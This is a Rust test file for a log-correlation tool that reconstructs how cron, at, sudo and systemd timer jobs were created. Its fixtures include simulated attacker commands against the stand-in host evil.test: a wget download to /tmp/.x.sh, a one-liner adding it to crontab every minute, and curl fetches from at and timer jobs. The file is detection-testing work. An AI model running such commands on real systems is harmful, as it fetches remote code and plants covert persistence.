//! Unix jobs by their own logs: crontab(1) of two logs, sudo to it, at, timers, tables whose lines are not told.

use crate::scene::{Scene, check, entry, job, shown};
use watchbell_jobs::Kind;
use watchbell_story::{Chapter, Strength};

const EXACT: Option<Strength> = Some(Strength::Exact);
const STRONG: Option<Strength> = Some(Strength::Strong);

fn run(pid: u32, parent: u32, user: &str, command: &str) -> String {
    let image = command.split(' ').next().unwrap_or_default();
    format!("user={user} | login_user={user} | logon=7 | pid={pid} | parent_pid={parent} | image=/usr/bin/{image} | command={command}")
}

fn login(scene: Scene, user: &str) -> Scene {
    scene.fact("in", "logon", -60_000, "h", &format!("user={user} | login_user=1001 | logon=7 | address=10.0.0.5 | pid=9 | terminal=ssh"))
}

/// The audit log numbers accounts, syslog names them; both tell of one run of crontab(1).
fn crontab() -> Scene {
    login(Scene::new(), "amy")
        .fact("fetch", "process", -20_000, "h", &run(19, 10, "1001", "wget -q http://evil.test/x.sh -O /tmp/.x.sh"))
        .fact("shell", "process", -100, "h", &run(20, 10, "1001", "bash -c '(crontab -l; echo \"* * * * * /tmp/.x.sh\")|crontab -'"))
        .fact("shell", "job", -100, "h", &run(20, 10, "1001", "bash -c x"))
        .with_job(&job(Kind::Cron, "", "/tmp/.x.sh", None))
        .fact("crontab", "process", 0, "h", &run(21, 20, "1001", "crontab -"))
        .fact(
            "table",
            "job",
            100,
            "h",
            "user=1001 | login_user=1001 | logon=7 | pid=21 | parent_pid=20 | image=/usr/bin/crontab | file=/var/spool/cron/crontabs/amy",
        )
        .fact("line", "job", 100, "h", "user=amy | target_user=amy | pid=21")
        .fact("other", "job", 200, "h", "user=amy | target_user=amy | pid=33")
        .fact("ran", "run", 60_000, "h", "user=amy | action=/tmp/.x.sh | pid=90")
}

#[test]
fn both_logs_of_one_crontab_stand_in_the_story() {
    let mut scene = crontab().alert("table", "1001", None);
    scene.subject.login_user = Some("1001".to_owned());
    scene.subject.summary = "1001 changed the cron table 1001 on h".to_owned();
    let told = scene.tell();
    check(&told, &[("line", STRONG), ("crontab", EXACT), ("in", EXACT), ("other", None), ("ran", None)]);
    assert!(entry(&told, "ran").is_some(), "{}", shown(&told));
    assert_eq!(told.story.summary[1], "amy changed the cron table amy on h.");
}

#[test]
fn the_account_of_two_logs_is_one() {
    let mut scene = crontab().alert("line", "amy", None);
    scene.subject.login_user = Some("1001".to_owned());
    scene.subject.summary = "amy changed a table".to_owned();
    assert_eq!(scene.tell().story.summary.last().map(String::as_str), Some("amy changed a table."));
}

#[test]
fn a_run_finds_the_session_that_wrote_its_line() {
    let mut scene = crontab().alert("ran", "amy", None);
    scene
        .facts
        .iter_mut()
        .filter(|fact| fact.id == crate::scene::id("shell"))
        .for_each(|fact| fact.values.push((watchbell_story::Name::Action, "/tmp/.x.sh".into())));
    let told = scene.tell();
    check(&told, &[("shell", STRONG), ("fetch", STRONG), ("crontab", STRONG), ("table", STRONG), ("in", STRONG)]);
    assert_eq!(entry(&told, "crontab").expect("below the maker").chapter, Chapter::Before);
    assert!(told.story.summary[0].starts_with("amy logged in to h"), "{}", shown(&told));
}

/// Somebody becomes another account, and that one root, to edit a table; syslog alone tells.
fn edited() -> Scene {
    Scene::new()
        .fact("in", "sshd", -300_000, "h", "user=eve | address=10.0.0.7 | port=4 | pid=5 | service=sshd")
        .fact("su", "switch", -200_000, "h", "user=eve | target_user=deploy")
        .fact("sudo", "switch", -41_000, "h", "user=deploy | target_user=root | command=/usr/bin/crontab -u root -e | service=sudo")
        .fact("earlier", "switch", -90_000, "h", "user=kim | target_user=root | command=/usr/bin/crontab -l")
        .fact("open", "job", -40_000, "h", "user=root | target_user=root | pid=70")
        .fact("made", "job", 0, "h", "user=root | target_user=root | pid=70")
        .alert("made", "root", None)
}

#[test]
fn an_edit_leads_through_sudo_and_su_to_the_login() {
    let told = edited().tell();
    check(&told, &[("open", STRONG), ("sudo", STRONG), ("su", STRONG), ("in", STRONG), ("earlier", None)]);
    assert_eq!(told.story.summary[0], "eve logged in to h by ssh from 10.0.0.7 at 09:55:00 UTC and became root with sudo.");
    let two = edited().fact("at_once", "switch", -41_500, "h", "user=kim | target_user=root | command=/usr/bin/crontab -e").tell();
    check(&two, &[("sudo", None), ("at_once", None), ("in", None)]);
    let other = edited().fact("other", "switch", -250_000, "h", "user=kim | target_user=deploy").tell();
    check(&other, &[("sudo", STRONG), ("su", None), ("other", None), ("in", None)]);
}

#[test]
fn what_was_refused_is_not_told_as_done() {
    let scene = Scene::new().fact("no", "switch", 0, "h", "user=eve | command=tee /etc/cron.d/x").failed();
    assert_eq!(entry(&scene.alert("no", "eve", None).tell(), "no").expect("own").text, "eve used sudo: tee /etc/cron.d/x: tried and failed");
}

#[test]
fn at_starts_the_shell_of_its_job() {
    let scene = Scene::new()
        .fact("made", "job", 0, "h", "user=bob | login_user=bob | logon=8 | pid=30 | image=/usr/bin/at | job_name=a0001")
        .fact("ran", "run", 120_000, "h", "user=bob | job_name=a0001 | pid=700")
        .fact("shell", "process", 120_100, "h", "user=bob | login_user=bob | logon=55 | pid=81 | parent_pid=700 | image=/usr/bin/sh | command=sh")
        .fact(
            "child",
            "process",
            120_200,
            "h",
            "user=bob | login_user=bob | logon=55 | pid=82 | parent_pid=81 | image=/usr/bin/curl | command=curl http://evil.test/p",
        )
        .fact("others", "process", 120_100, "h", "user=kim | login_user=kim | logon=56 | pid=83 | parent_pid=700 | image=/usr/bin/sh | command=sh")
        .alert("made", "bob", None);
    check(&scene.tell(), &[("ran", STRONG), ("shell", STRONG), ("child", STRONG), ("others", None)]);
}

#[test]
fn a_timer_its_service_and_what_that_runs_are_one_job() {
    let made = job(Kind::SystemdRun, "clean", "/bin/sh -c 'curl http://evil.test/s'", None);
    let process = |pid: u32, parent: u32| format!("user=root | pid={pid} | parent_pid={parent} | image=/bin/sh | command=/bin/sh -c 'curl http://evil.test/s'");
    let scene = Scene::new()
        .fact("made", "job", 0, "h", "user=amy | login_user=amy | logon=7 | pid=30 | image=/usr/bin/systemd-run | job_name=clean")
        .with_job(&made)
        .fact("armed", "job", 100, "h", "job_name=clean.timer")
        .fact("ran", "run", 300_000, "h", "job_name=clean.service")
        .fact("sh", "process", 300_100, "h", &process(91, 1))
        .fact("other", "process", 300_100, "h", &process(92, 55))
        .fact("another", "run", 300_000, "h", "job_name=cleaner.service")
        .alert("made", "amy", Some(made));
    check(&scene.tell(), &[("armed", STRONG), ("ran", STRONG), ("sh", STRONG), ("other", None), ("another", None)]);
}

#[test]
fn of_a_table_without_lines_new_commands_are_only_worth_a_look() {
    let scene = Scene::new()
        .fact("old", "run", -60_000, "h", "user=root | action=/usr/sbin/logrotate")
        .fact("made", "job", 0, "h", "user=root | login_user=amy | logon=7 | pid=30 | image=/usr/bin/tee | file=/etc/cron.d/backup")
        .fact("again", "run", 60_000, "h", "user=root | action=/usr/sbin/logrotate")
        .fact("new", "run", 120_000, "h", "user=root | action=curl http://evil.test/s")
        .alert("made", "root", None);
    let told = scene.tell();
    check(&told, &[("new", None), ("again", None)]);
    assert_eq!((entry(&told, "new").is_some(), entry(&told, "again").is_some()), (true, false), "{}", shown(&told));
}

#[test]
fn the_removal_of_its_file_is_the_end_of_a_job() {
    let file = "user=root | login_user=amy | logon=7 | image=/usr/bin/rm | file=/etc/cron.d/x";
    let mut scene =
        Scene::new().fact("made", "job", 0, "h", &file.replace("rm", "tee")).fact("gone", "job_deleted", 60_000, "h", file).alert("made", "root", None);
    scene.subject.entities.push(("file".to_owned(), "/etc/cron.d/x".to_owned()));
    scene.subject.next = Some("It runs next at 10:05 UTC.".to_owned());
    assert_eq!(scene.tell().story.summary.last().map(String::as_str), Some("It was deleted at 10:01:00 UTC."));
}
